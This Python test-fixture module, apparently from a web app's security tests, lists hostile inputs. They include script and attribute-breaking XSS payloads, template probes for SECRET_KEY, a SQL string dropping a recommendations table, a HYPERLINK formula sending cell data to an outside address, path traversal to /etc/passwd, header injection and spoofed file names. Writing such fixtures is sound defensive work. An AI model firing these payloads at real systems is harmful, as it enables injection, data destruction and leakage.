"""Which texts are typed by somebody who means ill, or by a machine gone wrong?"""

#: Each would run, fetch or break something where a text is written out or read without care.
TEXTS = {
    "script": "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "broken out of an attribute": "\"' onmouseover=\"alert(1)\" autofocus onfocus='alert(1)'",
    "broken out of a comment": "--><svg onload=alert(1)><!-- ]]> </textarea><script>alert(1)",
    "template": "{{ settings.SECRET_KEY }}{% load static %}{% debug %}${7*7}#{7*7}",
    "query": "'; DROP TABLE recommendations_recommendation; -- \\' OR '1'='1 %_%",
    "formula": '=HYPERLINK("http://198.51.100.1/?"&A1,"open")',
    "control characters": "a\x00b\x01c\x1b[31m\x7f",
    "bidirectional": "\u202egpj.exe\u2066 abc \u2069\u200b\ufeff",
    "surrogates and far planes": "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16")
    + "\U0010ffff\u0f3a",
    "long": "x" * 120_000,
    "many lines": "line\r\n" * 20_000,
    "number": "9" * 40,
    "negative": "-1",
    "not a number": "NaN",
    "infinite": "1e400",
    "date": "31/02/99999999999",
    "path": "../../../../etc/passwd\\..\\..\\windows\\win.ini",
    "header": "x\r\nSet-Cookie: stolen=1\r\n\r\n<html>",
    "address": "javascript:alert(1)//http://198.51.100.1/",
    "deep quotes": "> " * 400 + "deep",
    "wide table": "|" + "a|" * 3_000 + "\n|" + "-|" * 3_000,
    "markdown": "[x](javascript:alert(1)) ![x](http://198.51.100.1/x.png) <iframe src=//x>",
    "nested emphasis": "*_" * 3_000 + "x" + "_*" * 3_000,
}
#: None of these may stand in a page as markup.
RUNS = ("<script>alert", "onerror=alert(1)>", "<svg onload", "<iframe", 'href="javascript:')
FILE_NAMES = (
    "../../../../etc/passwd.pdf",
    "..\\..\\evil.pdf",
    "con.pdf",
    "x\r\nSet-Cookie: stolen=1.pdf",
    '"; filename="evil.html.pdf',
    "<script>alert(1)<script>.pdf",
    "\u202efdp.exe.pdf",
    "a" * 400 + ".pdf",
    ".pdf",
    "évidence “March” 🎉.pdf",
    "evil.html",
    "evil.svg",
    "evil.pdf.exe",
    "",
)
